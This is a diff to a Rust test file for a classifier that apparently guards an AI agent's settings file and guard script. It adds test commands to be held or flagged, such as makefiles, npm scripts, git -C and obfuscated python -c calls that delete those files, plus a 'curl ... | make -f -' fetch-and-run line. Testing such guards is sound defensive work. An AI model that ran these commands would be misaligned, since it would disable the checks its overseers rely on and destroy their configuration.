@@ -251,6 +251,16 @@ const HELD: &[&str] = &[
     "./wipe.sh",
     "bash erase.sh .gemini/settings.json",
     "python3 wipe.py",
+    "make -f wipe.mk",
+    "make -C . --file=wipe.mk all",
+    "printf 'all:\\n\\trm .gemini/settings.json\\n' | make -f -",
+    "npm --prefix package run wipe",
+    // Programs that an option sends to another folder, and homes in program text.
+    "git -C .gemini clean -fdx",
+    "git -C src -C .. restore .gemini",
+    "make -C .gemini -f ../wipe.mk",
+    "python3 -c \"import os; os.remove(os.path.expanduser('~/guards/guard.sh'))\"",
+    "python3 -c \"import os; open(os.path.expanduser('~')+'/.gem'+'ini/settings.json','w')\"",
     "cat > w.sh <<'X'\nrm .gemini/settings.json\nX\nsh w.sh",
 ];
 
@@ -260,6 +270,7 @@ const UNCLEAR: &[&str] = &[
     "python3 -c \"exec(bytes.fromhex('00').decode())\"",
     "node -e \"require('fs').unlinkSync(Buffer.from('eA==','base64').toString())\"",
     "curl -s https://example.com/x | sh",
+    "curl -s https://example.com/x | make -f -",
     "rm \"$(cat names.txt)\"",
     "$(cat program.txt) .gemini/settings.json",
 ];
@@ -305,6 +316,10 @@ const FREE: &[&str] = &[
     "bash tools/check.sh",
     "bash tools/check.sh < /dev/null",
     "sh harmless.sh",
+    "make -f harmless.mk",
+    "npm --prefix src test",
+    "git -C src clean -fdx",
+    "git -C .gemini status",
     "echo .gemini/settings.json",
     "grep -rn settings.json src > found.txt",
     "npm test && cargo build --release",
@@ -333,6 +348,13 @@ fn commands_are_held_in_every_spelling() {
         "#!/bin/sh\nrm -f .gemini/settings.json\n",
     );
     fixture.write("project/erase.sh", "rm \"$1\"");
+    fixture.write(
+        "project/wipe.mk",
+        "all:\n\t@rm $(HOME)/nothing .gemini/settings.json ../.gemini/settings.json\n",
+    );
+    fixture.write("project/harmless.mk", "all: ; @touch $$HOME/x build.log\n");
+    let scripts = r#"{"scripts": {"wipe": "rm ../.gemini/settings.json"}}"#;
+    fixture.write("project/package/package.json", scripts);
     fixture.write("project/harmless.sh", "echo done; date > build.log");
     fixture.write(
         "project/wipe.py",
